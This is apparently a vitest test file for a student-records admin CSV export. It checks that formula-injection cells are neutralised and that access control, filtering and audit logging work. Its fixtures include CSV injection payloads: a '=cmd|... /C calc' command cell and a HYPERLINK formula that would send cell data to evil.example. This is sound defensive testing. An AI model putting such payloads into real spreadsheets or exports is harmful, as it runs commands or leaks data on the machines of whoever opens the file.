import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, neutraliseFormula } from '../../src/platform/csv.js';
import { createTestApp } from '../support/app.js';
import type { TestApp } from '../support/app.js';
import { testDatabaseKinds } from '../support/databases.js';
import { auditActions, createDepartment, expectError, insertStudent } from './fixtures.js';

const HEADER = [
  'studentNo',
  'name',
  'departmentCode',
  'departmentName',
  'entryYear',
  'year',
  'tel',
  'email',
  'birthDate',
];

function readCsv(text: string): string[][] {
  return parse(text, { bom: true, relax_column_count: false });
}

describe('CSV cells', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+82-10-1234-5678', "'+82-10-1234-5678"],
    ['-3', "'-3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\tTAB', "'\tTAB"],
    ['\rCR', "'\rCR"],
    ['홍=길동', '홍=길동'],
    ["'이미 인용", "'이미 인용"],
  ])('neutraliseFormula(%j) is %j', (value, expected) => {
    expect(neutraliseFormula(value)).toBe(expected);
  });

  it('quotes cells with commas, quotes and line breaks, doubling quotes', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('=cmd|" /C calc"!A0')).toBe('"\'=cmd|"" /C calc""!A0"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(-5)).toBe('-5');
  });
});

describe.each(testDatabaseKinds())('GET /admin/api/students/export on $label', ({ name }) => {
  let t: TestApp;
  let department: { id: number; code: string; name: string };
  let other: { id: number; code: string; name: string };
  const dangerous = [
    '=HYPERLINK("https://evil.example/?x="&A1,"클릭")',
    '+SUM(1,2)',
    '-1+2',
    '@cmd',
    '김, "별명" 철수',
  ];
  beforeAll(async () => {
    t = await createTestApp(name);
    department = await createDepartment(t);
    other = await createDepartment(t);
    for (const studentName of dangerous)
      await insertStudent(t, department.id, { name: studentName, year: 2 });
    await insertStudent(t, other.id, { name: '다른학과', year: 1 });
    const created = await t.call('POST', '/admin/api/students', {
      token: t.adminToken,
      body: {
        departmentId: department.id,
        name: '연락처있음',
        entryYear: 2026,
        year: 2,
        password: 'export-pass-2026',
        tel: '+82 10 1234 5678',
        email: 'a@example.com',
        birthDate: '2005-03-01',
      },
    });
    expect(created.statusCode, created.body).toBe(201);
  });
  afterAll(async () => t?.close());

  const exportCsv = (query = '', token: string | null = t.adminToken) =>
    t.call('GET', `/admin/api/students/export${query}`, token === null ? {} : { token });

  it('without a login it is 401, and for a student it is 403', async () => {
    expectError(await exportCsv('', null), 401, 'UNAUTHENTICATED');
    const student = await insertStudent(t, other.id);
    expectError(await exportCsv('', await t.tokenFor('student', student.id)), 403, 'FORBIDDEN');
  });

  it('answers text/csv as an attachment, never cached, with a BOM so Excel reads UTF-8', async () => {
    const res = await exportCsv();
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="students.csv"');
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('every cell that a spreadsheet would run as a formula is prefixed with a quote; the rest is exact', async () => {
    const res = await exportCsv(`?departmentId=${department.id}`);
    const [header, ...rows] = readCsv(res.body);
    expect(header).toEqual(HEADER);
    const names = rows.map((r) => r[1]);
    expect(names).toEqual(
      expect.arrayContaining([
        '\'=HYPERLINK("https://evil.example/?x="&A1,"클릭")',
        "'+SUM(1,2)",
        "'-1+2",
        "'@cmd",
        '김, "별명" 철수',
        '연락처있음',
      ]),
    );
    expect(rows).toHaveLength(dangerous.length + 1);
    for (const row of rows) {
      expect(row).toHaveLength(HEADER.length);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    const withContact = rows.find((r) => r[1] === '연락처있음');
    expect(withContact?.slice(2)).toEqual([
      department.code,
      department.name,
      '2026',
      '2',
      "'+82 10 1234 5678",
      'a@example.com',
      '2005-03-01',
    ]);
    expect(withContact?.[0]).toMatch(new RegExp(`^26${department.code}[0-9]{3}$`));
  });

  it('the stored names stay exactly as given', async () => {
    const stored = await t.karina.db
      .selectFrom('students')
      .select('name')
      .where('department_id', '=', department.id)
      .execute();
    expect(stored.map((r) => r.name)).toEqual(expect.arrayContaining(dangerous));
  });

  it('filters by department and year, and refuses unknown or non-decimal parameters', async () => {
    const [, ...otherRows] = readCsv((await exportCsv(`?departmentId=${other.id}&year=1`)).body);
    expect(otherRows.map((r) => r[1])).toContain('다른학과');
    expect(otherRows.every((r) => r[2] === other.code && r[5] === '1')).toBe(true);
    const [, ...none] = readCsv((await exportCsv(`?departmentId=${department.id}&year=4`)).body);
    expect(none).toEqual([]);
    expectError(await exportCsv('?bogus=1'), 400, 'VALIDATION_FAILED');
    expectError(await exportCsv(`?departmentId=0x${department.id.toString(16)}`), 400, 'VALIDATION_FAILED');
  });

  it('each export is written to the audit log', async () => {
    const before = (await auditActions(t, 'students')).filter((a) => a === 'student.export').length;
    await exportCsv();
    const after = (await auditActions(t, 'students')).filter((a) => a === 'student.export').length;
    expect(after).toBe(before + 1);
  });
});
